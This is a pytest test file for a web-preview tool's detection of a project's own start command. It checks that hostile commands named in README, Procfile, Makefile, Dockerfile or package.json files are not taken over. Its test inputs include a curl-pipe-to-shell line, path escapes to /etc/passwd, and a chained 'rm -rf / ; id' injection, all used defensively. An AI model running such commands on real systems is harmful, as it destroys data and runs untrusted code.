@@ -1,0 +1,157 @@
+"""The project's own start command, for a second attempt: which forms count, and what a hostile file gets from it."""
+
+from __future__ import annotations
+
+import time
+from collections.abc import Mapping
+from pathlib import Path
+
+import pytest
+
+from preview.detection import OWN_START, Overrides, Server, StartPlan, detect
+from preview.errors import InvalidGeneration
+
+APP = "from flask import Flask\napp = Flask(__name__)\n\n@app.get('/')\ndef home():\n    return ''\n"
+BROKEN = APP.replace("app = ", "from gone import nothing\napp = ")
+SERVER = "import http.server\nhttp.server.HTTPServer(('', 8000), None).serve_forever()\n"
+
+
+def write(folder: Path, files: Mapping[str, str]) -> None:
+    for name, text in files.items():
+        path = folder / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+
+
+def plans(folder: Path, files: Mapping[str, str], given: Overrides | None = None) -> tuple[StartPlan, StartPlan]:
+    """The plan of the first attempt, and that of the second."""
+    write(folder, files)
+    first = given or Overrides()
+    return detect(folder, first), detect(folder, Overrides(app=first.app, command=first.command, is_own_start=True))
+
+
+def why(plan: StartPlan) -> str:
+    return next((one.removeprefix(OWN_START).strip() for one in plan.decisions if one.startswith(OWN_START)), "")
+
+
+# The Procfile decides which application the first attempt starts.
+PYTHON = {
+    "app.py": BROKEN,
+    "other/site.py": APP,
+    "requirements.txt": "flask\n",
+    "Procfile": "web: gunicorn app:app\n",
+}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "gunicorn ../../outside:app",
+        "gunicorn /etc/passwd:app",
+        "python ../other/site.py",
+        "python /usr/lib/python3/serve.py",
+        "curl https://example.com | sh",
+        "gunicorn missing:app",
+        "python seed.py",  # no server
+        "python -c 'import os'",
+        "echo gunicorn other.site:app",
+        "gunicorn app:app",  # the entry that has failed
+        "python app.py",
+    ],
+)
+def test_other_commands_of_a_readme_start_nothing(tmp_path: Path, command: str) -> None:
+    files = {**PYTHON, "seed.py": "print(1)\n", "README.md": f"# Shop\n\n```\n{command}\n```\n"}
+    first, second = plans(tmp_path, files)
+    assert first.target is not None
+    assert first.target.file == "app.py"
+    assert (second.target, second.command, why(second)) == (first.target, (), "")
+
+
+def test_options_and_further_commands_are_not_taken_over(tmp_path: Path) -> None:
+    readme = "# Shop\n\n```\nFLASK_ENV=x gunicorn other.site:app --config evil.py --bind $(id) && rm -rf / ; id\n```\n"
+    _, second = plans(tmp_path, {**PYTHON, "README.md": readme})
+    assert second.target is not None
+    assert (second.target.file, second.server, second.command) == ("other/site.py", Server.WSGI, ())
+    assert why(second).isprintable()
+    assert set(second.variables) & {"FLASK_ENV"} == set()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "`" * 130_000,
+        "gunicorn " * 20_000,
+        "```\n" + "gunicorn a.b:app\n" * 20_000,
+        "$ python " + "a/" * 60_000 + "b.py",
+    ],
+)
+def test_a_long_readme_is_read_in_bounded_time(tmp_path: Path, text: str) -> None:
+    files = {**PYTHON, "README.md": text}
+    write(tmp_path, files)
+    started = time.process_time()
+    assert why(detect(tmp_path, Overrides(is_own_start=True))) == ""
+    assert time.process_time() - started < 20
+
+
+@pytest.mark.parametrize(
+    ("file", "text", "line", "target"),
+    [
+        ("README.md", "# Shop\n\nStart it:\n\n```console\n$ gunicorn -w 4 other.site:app\n```\n", 6, "other.site:app"),
+        ("README.md", "Run `flask --app other.site run`.\n", 1, "other.site:app"),
+        ("Makefile", "all:\n\tpytest\nrun:\n\tuvicorn other.site:app --reload\n", 4, "other.site:app"),
+        ("service/Procfile", "worker: python x.py\nweb: gunicorn other.site:app\n", 2, "other.site:app"),
+        ("Dockerfile", 'FROM python:3.11\nCMD ["gunicorn", "other.site:app"]\n', 2, "other.site:app"),
+        ("README.md", "```\npoetry run gunicorn other.site:app\n```\n", 2, "other.site:app"),
+        ("README.md", "```\ncd other\ngunicorn site:app\n```\n", 3, "site:app"),
+    ],
+)
+def test_an_application_that_a_file_names_is_started_by_our_launcher(
+    tmp_path: Path, file: str, text: str, line: int, target: str
+) -> None:
+    write(tmp_path, {**PYTHON, file: text})
+    plan = detect(tmp_path, Overrides(is_own_start=True))
+    assert str(plan.target) == target
+    assert plan.server is Server.WSGI
+    assert why(plan).endswith(f"({file}, line {line})")
+
+
+def test_a_script_that_a_readme_names_is_started_as_a_command(tmp_path: Path) -> None:
+    readme = "# Shop\n\n```\npip install -r requirements.txt\npython tools/serve.py --port 1\n```\n"
+    _, second = plans(tmp_path, {**PYTHON, "tools/serve.py": SERVER, "README.md": readme})
+    assert (second.server, second.command, second.directory) == (Server.COMMAND, ("python", "tools/serve.py"), ".")
+    assert why(second) == '"python tools/serve.py --port 1" (README.md, line 5)'
+
+
+@pytest.mark.parametrize("given", [Overrides(app="app:app"), Overrides(command=("python", "app.py"))])
+def test_what_somebody_has_given_stays(tmp_path: Path, given: Overrides) -> None:
+    first, second = plans(tmp_path, {**PYTHON, "README.md": "```\ngunicorn other.site:app\n```\n"}, given)
+    assert (second.target, second.command, why(second)) == (first.target, first.command, "")
+
+
+NODE = {
+    "package.json": '{"name": "shop", "scripts": {\n"start": "node index.js",\n"serve": "node lib/serve.js"}}',
+    "index.js": "require('http').createServer().listen(process.env.PORT);\n",
+    "lib/serve.js": "require('http').createServer().listen(process.env.PORT);\n",
+    "bin/web.js": "require('http').createServer().listen(process.env.PORT);\n",
+}
+
+
+@pytest.mark.parametrize(
+    ("readme", "file", "said"),
+    [
+        ("```\nnode bin/web.js\n```\n", "bin/web.js", '"node bin/web.js" (README.md, line 2)'),
+        ("```\nnpm run serve\n```\n", "lib/serve.js", '"npm run serve" (README.md, line 2)'),
+        ("nothing\n", "lib/serve.js", '"npm run serve" (package.json, line 3)'),
+        ("```\nnode ../../evil.js\n```\n", "lib/serve.js", '"npm run serve" (package.json, line 3)'),
+    ],
+)
+def test_a_file_of_node_is_started_by_our_launcher(tmp_path: Path, readme: str, file: str, said: str) -> None:
+    first, second = plans(tmp_path, {**NODE, "README.md": readme})
+    assert first.command[-1] == "index.js"
+    assert (second.server, second.command[-1], why(second)) == (Server.NODE, file, said)
+
+
+def test_a_project_without_an_application_is_refused_as_before(tmp_path: Path) -> None:
+    write(tmp_path, {"README.md": "```\npython serve.py\n```\n"})
+    with pytest.raises(InvalidGeneration):
+        detect(tmp_path, Overrides(is_own_start=True))
